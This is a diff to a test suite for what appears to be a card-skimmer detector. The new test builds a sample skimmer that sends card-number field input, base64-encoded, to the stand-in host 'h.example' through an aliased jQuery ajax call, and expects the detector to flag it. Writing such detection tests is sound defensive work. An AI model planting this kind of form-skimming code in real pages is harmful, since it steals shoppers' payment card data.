@@ -38,6 +38,21 @@ describe('sends the first look cannot name', () => {
     expect(v.findings.map((f) => f.message).join('\n')).toContain('via image')
   })
 
+  it("jQuery handed in by the module loader under any name (require(['jquery'], …))", () => {
+    const send = (loader: string): string => `${loader}, function (u, e) {
+        e(document).on('change', '#cc_number', function () {
+          e.ajax({ url: 'https://h.example/v', type: 'POST', data: { d: btoa(JSON.stringify({ n: this.value })) } }) }) })`
+    for (const loader of [
+      `require(['mage/url', 'jquery']`,
+      `define('theme/x', ['domReady!', 'jquery']`,
+    ])
+      expect(rules(send(loader))).toContain('exfil-sink-serialised-data')
+    // a module that is not jQuery is not read as one
+    expect(rules(send(`require(['mage/url', 'underscore']`))).not.toContain(
+      'exfil-sink-serialised-data',
+    )
+  })
+
   it('names joined by a one-line wrapper of + are names', () => {
     const source = `var j = function (a, b) { return a + b }
       document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
